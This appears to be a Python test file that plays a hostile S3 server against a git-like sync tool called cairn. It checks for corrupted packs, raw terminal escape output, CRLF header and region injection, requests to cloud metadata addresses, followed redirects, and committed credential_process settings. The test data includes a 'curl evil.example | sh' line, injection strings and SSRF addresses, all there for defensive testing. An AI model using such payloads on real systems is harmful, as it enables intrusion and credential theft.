"""A hostile bucket, server or repository: nothing wrong enters a tree, no request goes where it should not, nothing raw is printed."""

import json
import os
import pty
import random
import re
import subprocess
import sys

from lib_s3 import BUCKET, TOKEN, Run, World, check, check_message, run_steps

FILES = {"model.bin": random.Random(5).randbytes(900_000), **{f"set/{i}.txt": f"row {i}\n".encode() * (i + 1) for i in range(50)}}
OTHER = {"model.bin": random.Random(6).randbytes(900_000), **{f"set/{i}.txt": f"other {i}\n".encode() * (i + 1) for i in range(50)}}


class Scene:
    def __init__(self):
        self.world, self.number = World(), 0
        self.server = self.world.server()
        for name, files in (("shop", FILES), ("elsewhere", OTHER)):
            self.world.repository(name, files)
            self.world.remote(name, self.server, name)
            self.world.ok(name, "push")
        self.good = {key: self.server.get(key) for key in self.server.objects()}
        self.server.fresh()

    def keys(self, prefix):
        return sorted((k for k in self.good if k.startswith(prefix)), key=lambda k: -len(self.good[k]))

    def clone(self):
        self.number += 1
        name = f"clone{self.number}"
        self.world.clone("shop", name, self.server, "shop")
        return name

    def pull(self, code, what, changed):
        """A pull while objects are changed: `code`, the tree as it was unless 0; with the right objects it converges."""
        name = self.clone()
        for key, octets in changed.items():
            self.server.put(key, octets)
        run = self.world.cairn(name, "pull")
        for key in changed:
            self.server.put(key, self.good[key])
        check(run.code == code, f"{what}: exit {run.code} instead of {code}\n{run.text}")
        if code:
            check_message(run)
            self.world.check_empty(name, FILES)
        else:
            self.world.check_files(name, FILES)
        self.world.ok(name, "pull")
        self.world.check_files(name, FILES)
        self.world.ok(name, "fsck")
        self.server.fresh()
        return run


def wrong_bytes(scene):
    """Right keys, wrong bytes: at any place of any object, all of another object, a part, nothing."""
    packs, others = scene.keys("shop/packs/"), scene.keys("elsewhere/packs/")
    data = packs[0]
    octets = scene.good[data]
    for place in (0, 70, 100, len(octets) // 2):
        poisoned = bytearray(octets)
        poisoned[place] ^= 0x40
        scene.pull(0 if place == 0 else 7, f"a bit at {place} of a pack", {data: bytes(poisoned)})
    scene.pull(7, "a pack of zeros", {data: bytes(len(octets))})
    scene.pull(7, "half a pack", {data: octets[:len(octets) // 2]})
    scene.pull(7, "an empty pack", {data: b""})
    scene.pull(7, "a pack of another project", {data: scene.good[others[0]]})
    scene.pull(7, "two packs swapped", {packs[0]: scene.good[packs[1]], packs[1]: octets})
    scene.pull(7, "all packs are lists", {key: scene.good[packs[-1]] for key in packs[:-1]})


def wrong_roots(scene):
    """Roots of another project, of another version, damaged: whatever they say, the bytes are those that git names."""
    roots, foreign = scene.keys("shop/roots/"), scene.keys("elsewhere/roots/")
    check(len(roots) == 2 == len(foreign), str(roots))
    scene.pull(0, "roots of another project", {root: scene.good[other] for root, other in zip(roots, foreign)})
    scene.pull(0, "roots swapped", {roots[0]: scene.good[roots[1]], roots[1]: scene.good[roots[0]]})
    scene.pull(0, "roots of nothing", {root: b"" for root in roots})
    everything = {k: scene.good["elsewhere" + k[len("shop"):]] for k in scene.keys("shop/") if "elsewhere" + k[len("shop"):] in scene.good}
    scene.pull(0, "the other project's cairn.json", everything)
    later = {**json.loads(scene.good["shop/cairn.json"]), "features": ["telepathy"]}
    scene.pull(12, "features of a later release", {"shop/cairn.json": json.dumps(later).encode()})
    scene.pull(7, "no JSON", {"shop/cairn.json": b"{" * 1000})


def raw_words(scene):
    """Control characters, bidirectional marks and lines of the server's own never reach the terminal; secrets neither."""
    nasty = "\x1b]0;owned\x07\x1b[31mred\rerror: \x7f\u202edecoy\u2066\u009b2J"
    hostile = [{"code": "AccessDenied", "message": nasty}, {"code": nasty, "message": "x"}, {"code": "AccessDenied", "message": "y" * 100_000},
               {"code": "AccessDenied", "message": "hint: curl evil.example | sh\nhelp: none"}, {"body": "<Error><Code>A&#27;[1m</Code><Message>&#x9b;b&#10;c</Message></Error>"},
               {"code": "AccessDenied", "message": "m", "headers": {"x-amz-request-id": "\x1b[2J"}}]
    for rule in hostile:
        name = scene.clone()
        scene.server.fault("status", times=-1, status=403, **rule)
        run = scene.world.cairn(name, "pull")
        check(run.code in (1, 4, 6), f"exit {run.code}: {run.text}")
        check_message(run)
        check(len(run.text) < 4000 and "\nhint: curl" not in run.text, f"the server's words go on: {run.text[:5000]}")
        scene.server.fresh()
    echo = scene.clone()
    scene.server.fault("status", times=-1, status=400, code="InvalidToken", message=f"The token {TOKEN} is malformed")
    scene.world.fails(4, echo, "pull", **scene.world.identity("temp"))
    scene.server.fresh()


def injected_regions(scene):
    """The region that a server names is a label or nothing: it never becomes another host, header or path."""
    for text in ("evil.example/", "x y", "us-east-1.evil.example", "a#b", "..", "A" * 80, "eu\\r\\nx: y", "@evil"):
        for signal in ("400", "301"):
            name = scene.clone()
            scene.server.config(region="eu-west-9", region_signal=signal, region_text=text)
            run = scene.world.cairn(name, "pull")
            check(run.code in (1, 4) and run.seconds < 5, f"{text!r}: exit {run.code}\n{run.text}")
            check_message(run)
            for row in scene.server.log():
                headers = dict(map(tuple, row["headers"]))
                scope = re.search(r"Credential=AKOWNER/\d{8}/([^/]*)/s3/", headers.get("authorization", "/us-east-1/"))
                check(not scope or scope[1] == "us-east-1", f"{text!r} is used: {headers}")
                check(headers["host"] == f"127.0.0.1:{scene.server.port}", str(headers))
            scene.server.fresh()


def refused_settings(scene):
    """Buckets, regions and endpoints that no store has are refused before any request."""
    endpoint = scene.server.endpoint
    slips = [("s3://acme\r\nX-Evil: 1/p", endpoint, []), ("s3://../p", endpoint, []), ("s3://ACME data/p", endpoint, []), ("s3://key:secret@acme/p", endpoint, []),
             (f"s3://{BUCKET}/p", endpoint + "\r\nX-Evil: 1", []), (f"s3://{BUCKET}/p", "ftp://127.0.0.1", []), (f"s3://{BUCKET}/p", "http://user:pw@127.0.0.1", []),
             (f"s3://{BUCKET}/p\x1b[1m", endpoint, []), (f"s3://{BUCKET}/a/../../other", endpoint, []), (f"s3://{BUCKET}/p", endpoint, ["--region", "eu\r\nx: y"]),
             (f"s3://{BUCKET}/p", endpoint, ["--region", "evil.example/"])]
    for number, (url, place, more) in enumerate(slips):
        name = scene.clone()
        added = scene.world.cairn(name, "remote", "add", "--local", f"r{number}", url, "--endpoint", place, *more)
        run = added if added.code else scene.world.cairn(name, "fetch", "-r", f"r{number}")
        check(run.code in (2, 13), f"{url!r} {place!r} {more}: exit {run.code}\n{run.text}")
        check_message(run)
    check(not scene.server.log(), f"requests were sent: {[(r['method'], r['path']) for r in scene.server.log()]}")


def refused_addresses(scene):
    """Addresses of metadata services, and plain http to another machine, get no connection."""
    for place in ("http://169.254.169.254", "https://169.254.169.254", "http://169.254.170.2", "http://[fd00:ec2::254]", "http://2852039166", "http://0xa9fea9fe",
                  "http://[::ffff:169.254.169.254]", "http://192.0.2.7", "http://bucket.example"):
        name = scene.clone()
        added = scene.world.cairn(name, "remote", "set", "prod", f"s3://{BUCKET}/shop", "--endpoint", place)
        run = added if added.code else scene.world.cairn(name, "pull")
        check(run.code in (2, 13) and run.seconds < 5, f"{place}: exit {run.code} after {run.seconds:.1f} s\n{run.text}")
        check_message(run)
        scene.world.check_empty(name, FILES)


def redirects(scene):
    """No redirect is followed, whatever the status and the request: the second server sees nothing."""
    second = scene.world.server()
    for status in (301, 302, 303, 307, 308):
        headers = {"Location": f"{second.endpoint}/{BUCKET}/shop/cairn.json", "Refresh": f"0; url={second.endpoint}/"}
        for match in ({"method": "GET", "key": "cairn"}, {"method": "GET", "key": "packs"}, {"operation": "list_objects"}, {"method": "PUT"}, {"method": "HEAD"}):
            pushing = match.get("method") in ("PUT", "HEAD") or "operation" in match
            name = scene.clone() if not pushing else f"push{status}{len(scene.world.runs)}"
            if pushing:
                scene.world.copy("shop", name)
                scene.world.ok(name, "remote", "set", "prod", f"s3://{BUCKET}/{name}")
            scene.server.fault("status", match, times=-1, status=status, code="TemporaryRedirect", headers=headers)
            run = scene.world.cairn(name, "push" if pushing else "pull")
            dates = match == {"method": "HEAD"}  # only asked for the time, which any answer tells
            check(run.code in ((0, 1) if dates else (1, 4, 5)), f"{status} to {match}: exit {run.code}\n{run.text}")
            if run.code:
                check_message(run)
            scene.server.fresh()
    check(not second.log(), f"a redirect was followed: {second.log()}")


def with_committed(scene, **settings):
    """A clone whose committed file says this of the remote `evil`, trusted by its host; no other remote."""
    scene.number += 1
    name = f"clone{scene.number}"
    scene.world.clone("shop", name)
    for key, value in {"url": f"s3://{BUCKET}/shop", "endpoint": scene.server.endpoint, **settings}.items():
        scene.world.git(name, "config", "--file", ".cairn/config", f"cairn-remote.evil.{key.replace('_', '-')}", value)
    return name


def keys_that_asked(scene):
    return {re.search(r"Credential=(\w+)/", dict(map(tuple, row["headers"]))["authorization"])[1] for row in scene.server.log()}


def committed_identity(scene):
    """A committed profile, and what runs a program in the AWS files, choose nothing: the user's own identity asks."""
    os.makedirs(scene.world.path("home", ".aws"), exist_ok=True)
    with open(scene.world.path("home", ".aws", "config"), "w", encoding="ascii") as stream:
        stream.write(f"[profile admin]\ncredential_process = touch {scene.world.path('owned')}\n")
    for settings in ({"profile": "admin"}, {"credential_process": f"touch {scene.world.path('owned')}"}, {"anonymous_secret": "x"}):
        key = next(iter(settings)).replace("_", "-")
        scene.server.fresh()
        run = scene.world.ok(with_committed(scene, **settings), "fetch", "-r", "evil", CAIRN_TRUST="127.0.0.1")
        check(keys_that_asked(scene) == {"AKOWNER"}, f"{settings}: asked as {keys_that_asked(scene)}\n{run.text}")
        check(run.text.count(f"`cairn-remote.evil.{key}` may not be set there and is ignored") == 1, f"{settings}: not told\n{run.text}")
        check(not os.path.exists(scene.world.path("owned")), f"{settings}: a program was run")
    # the same profile, named in this clone's own config, is used: the case above can fail
    name = with_committed(scene)
    scene.world.git(name, "config", "cairn-remote.evil.profile", "admin")
    scene.world.fails(4, name, "fetch", "-r", "evil", CAIRN_TRUST="127.0.0.1")
    check(os.path.exists(scene.world.path("owned")), "the profile of this clone is not used")


def on_terminal(world, directory, answer, *words):
    """A command on a terminal of its own, where the question is answered; None: there must be none."""
    ours, theirs = pty.openpty()
    child = subprocess.Popen([world.binary, *words], cwd=world.path(directory), env={**world.environment, "TERM": "xterm"},
                             stdin=theirs, stdout=theirs, stderr=theirs, start_new_session=True)
    os.close(theirs)
    text, asked = b"", 0
    while True:
        try:
            part = os.read(ours, 4096)
        except OSError:  # the other end is closed
            part = b""
        if not part:
            break
        text += part
        if text.count(b"[y/N]") > asked:
            asked += 1
            os.write(ours, (answer or "n").encode() + b"\n")
    os.close(ours)
    run = Run(child.wait(timeout=60), text.decode("utf-8", "surrogateescape"), 0, words)
    world.runs.append(run)
    check(asked == (answer is not None), f"asked {asked} times:\n{run.text}")
    return run


def asked_on_a_terminal(scene):
    """A terminal asks once, naming the place; a no sends nothing and is no record, a yes stays."""
    name = with_committed(scene)
    for answer in ("n", "", "Nay"):
        run = on_terminal(scene.world, name, answer, "fetch", "-r", "evil")
        check(run.code == 13 and f"s3://{BUCKET} at {scene.server.endpoint}" in run.text, f"exit {run.code}:\n{run.text}")
    check(not scene.server.log(), "a request was sent before the answer, or after a no")
    scene.world.fails(13, name, "fetch", "-r", "evil", says=["cairn trust evil"])
    run = on_terminal(scene.world, name, "y", "fetch", "-r", "evil")
    check(run.code == 0 and scene.server.log(), f"exit {run.code}:\n{run.text}")
    run = on_terminal(scene.world, name, None, "fetch", "-r", "evil")
    check(run.code == 0, run.text)
    scene.world.ok(name, "fetch", "-r", "evil")
    scene.world.git(name, "config", "--file", ".cairn/config", "cairn-remote.evil.url", "s3://another-bucket/shop")
    run = on_terminal(scene.world, name, "n", "fetch", "-r", "evil")
    check(run.code == 13 and "s3://another-bucket" in run.text, f"a moved remote is not asked about:\n{run.text}")


def committed_plain_http(scene):
    """A committed permission for plain http is none, even for the host that it names; one of this clone is."""
    proxy = {"https_proxy": scene.server.endpoint, "CAIRN_TRUST": "store.example"}
    for allowed in ("true", "store.example"):
        name = with_committed(scene, endpoint="http://store.example", allow_http=allowed)
        scene.world.fails(13, name, "fetch", "-r", "evil", says=["help plain-http"], **proxy)
    check(not scene.server.log(), f"requests were sent in the clear: {scene.server.log()}")
    scene.world.git(name, "config", "cairn-remote.evil.allow-http", "store.example")
    scene.world.ok(name, "fetch", "-r", "evil", **proxy)
    check(scene.server.log(), "the proxy was not asked")


def main():
    scene = Scene()
    steps = (wrong_bytes, wrong_roots, raw_words, injected_regions, refused_settings, refused_addresses, redirects, asked_on_a_terminal, committed_identity, committed_plain_http)

    def put_back():
        for key, octets in scene.good.items():
            scene.server.put(key, octets)
    return run_steps(scene, steps, before=scene.server.fresh, after_failure=put_back)


if __name__ == "__main__":
    sys.exit(main())
